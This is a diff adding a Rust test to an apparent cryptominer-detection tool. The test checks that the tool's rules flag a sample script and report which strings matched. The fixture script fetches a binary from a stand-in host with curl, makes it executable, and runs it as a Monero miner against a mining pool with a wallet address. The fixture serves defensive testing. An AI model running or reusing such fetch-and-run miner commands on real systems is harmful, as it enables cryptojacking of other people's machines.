@@ -515,3 +515,41 @@ mod registry {
             .code(1);
     }
 }
+
+#[test]
+fn rules_check_shows_matching_rules_and_strings_per_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let script = dir.path().join("start.sh");
+    std::fs::write(
+        &script,
+        "#!/bin/sh\ncurl -sL https://example.invalid/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\n",
+    )
+    .unwrap();
+    let clean = dir.path().join("hello.txt");
+    std::fs::write(&clean, "hello\n").unwrap();
+    let own = dir.path().join("own.yar");
+    std::fs::write(
+        &own,
+        "rule Hello { meta: id = \"MY-HELLO\" strings: $h = \"hello\" condition: $h }\n",
+    )
+    .unwrap();
+    let output = minehound()
+        .args(["rules", "check"])
+        .arg(&own)
+        .arg(&script)
+        .arg(&clean)
+        .assert()
+        .code(0)
+        .get_output()
+        .stdout
+        .clone();
+    let text = String::from_utf8(output).unwrap();
+    let (first, second) = text.split_once("hello.txt").unwrap();
+    assert!(first.contains("MH-DROPPER-SCRIPT high"), "{text}");
+    assert!(first.contains("MH-MONERO-WALLET high"), "{text}");
+    assert!(first.contains(", confirmed"), "{text}");
+    assert!(first.contains("$ex1 @0x"), "{text}");
+    assert!(first.contains("\"chmod +x\""), "{text}");
+    assert!(second.contains("MY-HELLO high"), "{text}");
+    assert!(second.contains("$h @0x0: \"hello\""), "{text}");
+}
